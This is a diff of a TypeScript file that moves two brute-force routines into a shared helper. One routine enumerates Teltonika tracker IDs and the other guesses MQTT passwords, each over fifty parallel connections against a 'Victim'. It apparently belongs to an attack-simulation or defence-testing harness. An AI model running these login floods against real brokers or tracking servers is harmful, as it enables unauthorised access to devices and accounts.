@@ -118,27 +118,23 @@ async function datagrams({ ports }: Victim, cost: Cost, signal: AbortSignal): Pr
   socket.close()
 }
 
-async function triedIds(victim: Victim, cost: Cost, signal: AbortSignal): Promise<void> {
+async function triedIds({ ports }: Victim, cost: Cost, signal: AbortSignal): Promise<void> {
   let id = 810_000_000_000_000
-  await Promise.all(
-    Array.from({ length: 50 }, async () => {
-      while (!signal.aborted) {
-        const socket = dial(victim.ports['tcp/teltonika'], cost)
-        write(socket, avlLogin(String(id++)), cost)
-        await once(socket, 'data', 1000)
-        socket.destroy()
-      }
-    }),
-  )
+  await tryLogins(ports['tcp/teltonika'], cost, signal, () => avlLogin(String(id++)))
 }
 
 async function guesses({ guarded, ports }: Victim, cost: Cost, signal: AbortSignal): Promise<void> {
   let guess = 0
+  await tryLogins(ports.mqtt, cost, signal, () => mqttConnect(guarded, String(guess++)))
+}
+
+/** Fifty at once, each on a connection of its own. */
+async function tryLogins(port: number, cost: Cost, signal: AbortSignal, next: () => Buffer): Promise<void> {
   await Promise.all(
     Array.from({ length: 50 }, async () => {
       while (!signal.aborted) {
-        const socket = dial(ports.mqtt, cost)
-        write(socket, mqttConnect(guarded, String(guess++)), cost)
+        const socket = dial(port, cost)
+        write(socket, next(), cost)
         await once(socket, 'data', 1000)
         socket.destroy()
       }
